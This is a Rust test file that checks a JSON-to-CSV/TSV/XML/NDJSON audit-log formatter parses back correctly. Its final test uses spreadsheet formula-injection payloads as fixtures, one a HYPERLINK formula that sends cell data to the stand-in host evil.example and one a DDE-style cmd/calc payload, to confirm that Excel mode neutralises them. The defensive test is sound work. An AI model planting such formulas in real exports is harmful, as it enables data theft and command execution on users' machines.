//! The fixture, formatted and parsed back field by field.

use serde_json::value::RawValue;

use super::json_model::{Entries, records_of};
use super::read_back::{
    assert_cell, assert_csv_matches_flattened, assert_xml_matches, assert_xml_value, parse_xml,
    read_csv,
};
use super::{FIELDS, fixture, format_fixture};
use crate::util;

#[test]
fn csv_with_fields_parses_back_to_the_json_values() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    let rows = read_csv(&format_fixture(&["-t", "csv", "-f", FIELDS]), b',');
    let columns: Vec<(&str, Vec<&str>)> = FIELDS
        .split(',')
        .map(|item| match item.split_once('=') {
            Some((name, path)) => (name, path.split('.').collect()),
            None => (item, item.split('.').collect()),
        })
        .collect();
    let names: Vec<&str> = columns.iter().map(|(name, _)| *name).collect();
    assert_eq!(rows[0], names);
    assert_eq!(rows.len(), records.len() + 1);
    for (row, record) in rows[1..].iter().zip(&records) {
        for ((name, path), cell) in columns.iter().zip(row) {
            assert_cell(cell, record.at(path), name);
        }
    }
}

#[test]
fn csv_without_fields_parses_back_to_the_flattened_json() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    assert_csv_matches_flattened(&format_fixture(&["-t", "csv"]), &records);
}

#[test]
fn tsv_parses_back_like_csv() {
    let csv = read_csv(&format_fixture(&["-t", "csv", "-f", FIELDS]), b',');
    let tsv = read_csv(&format_fixture(&["-t", "tsv", "-f", FIELDS]), b'\t');
    assert_eq!(csv, tsv);
}

#[test]
fn xml_parses_back_to_the_json_values() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    assert_xml_matches(&format_fixture(&["-t", "xml"]), &records);
}

#[test]
fn xml_with_fields_has_one_element_per_column() {
    let records = records_of(&String::from_utf8(fixture()).unwrap());
    let root = parse_xml(&format_fixture(&[
        "-t",
        "xml",
        "-f",
        "upn=initiatedBy.user.userPrincipalName,targetResources.0",
    ]));
    for (node, record) in root.children.iter().zip(&records) {
        let names: Vec<&str> = node.children.iter().map(|c| c.name.as_str()).collect();
        assert_eq!(names, ["upn", "targetResources.0"]);
        for (child, path) in node.children.iter().zip([
            &["initiatedBy", "user", "userPrincipalName"][..],
            &["targetResources", "0"],
        ]) {
            match record.at(path) {
                Some(value) => assert_xml_value(child, value, &child.name),
                None => assert_eq!(child.attribute("nil"), Some("true")),
            }
        }
    }
}

#[test]
#[allow(clippy::print_stderr, reason = "says that the expat check did not run")]
fn xml_output_satisfies_a_strict_parser_when_python_is_there() {
    let xml = format_fixture(&["-t", "xml"]);
    let check = std::process::Command::new("python3")
        .args([
            "-c",
            "import sys, xml.dom.minidom; xml.dom.minidom.parseString(sys.stdin.buffer.read())",
        ])
        .stdin(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn();
    let Ok(mut child) = check else {
        eprintln!("python3 not found; expat check skipped");
        return;
    };
    std::io::Write::write_all(&mut child.stdin.take().unwrap(), xml.as_bytes()).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "expat: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn json_and_ndjson_copy_records_byte_for_byte() {
    let text = String::from_utf8(fixture()).unwrap();
    let mut expected = Vec::new();
    for line in text.lines().filter(|l| !l.is_empty()) {
        if line.contains("\"@odata.context\"") {
            let entries: Entries<'_> = serde_json::from_str(line).unwrap();
            let value = entries.0.iter().find(|(k, _)| k == "value").unwrap().1;
            let items: Vec<&RawValue> = serde_json::from_str(value.get()).unwrap();
            expected.extend(items.iter().map(|v| v.get().to_string()));
        } else {
            expected.push(line.to_string());
        }
    }
    assert_eq!(
        format_fixture(&["-t", "ndjson"]),
        format!("{}\n", expected.join("\n"))
    );
    assert_eq!(
        format_fixture(&["-t", "json"]),
        format!("[\n{}\n]\n", expected.join(",\n"))
    );
    let pretty: serde_json::Value = serde_json::from_str(&format_fixture(&["--pretty"])).unwrap();
    let compact: serde_json::Value = serde_json::from_str(&format_fixture(&[])).unwrap();
    assert_eq!(pretty, compact);
}

#[test]
fn csv_cells_are_those_of_jq_for_the_same_paths() {
    // What `jq -r '[.id, .initiatedBy.user.userPrincipalName, ...] | @csv'` writes for
    // the fixture (pages unwrapped with `.value[]`), read back as cells; recorded with
    // jq 1.6, so the test needs no jq. scripts/bench-format.sh compares live on a large
    // file.
    let jq = read_csv(
        &std::fs::read_to_string(util::repo_root().join("tests/fixtures/format/audits.jq.csv"))
            .unwrap(),
        b',',
    );
    let ours = read_csv(
        &format_fixture(&[
            "-t",
            "csv",
            "--no-header",
            "-f",
            "id,initiatedBy.user.userPrincipalName,initiatedBy.app.displayName,\
             targetResources.0.modifiedProperties.0.newValue,resultReason,\
             additionalDetails.4.value,targetResources.1.displayName,activityDisplayName",
        ]),
        b',',
    );
    assert_eq!(ours, jq);
}

#[test]
fn excel_mode_neutralises_formulas_with_a_quote() {
    let out = format_fixture(&[
        "-t",
        "csv",
        "--excel",
        "-f",
        "activityDisplayName,additionalDetails.1.value,additionalDetails.2.value,additionalDetails.3.value,additionalDetails.4.value,durationInMilliseconds",
    ]);
    assert!(out.starts_with('\u{feff}'));
    assert!(out.ends_with("\r\n"));
    let rows = read_csv(out.strip_prefix('\u{feff}').unwrap(), b',');
    assert_eq!(
        rows[2],
        [
            "'=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")",
            "'@SUM(1+1)*cmd|' /C calc'!A0",
            "'+1-555-0100",
            "'-2+3",
            "'\tstarts with a tab",
            ""
        ]
    );
    assert_eq!(rows[5][5], "1.50", "numbers are not touched");
}
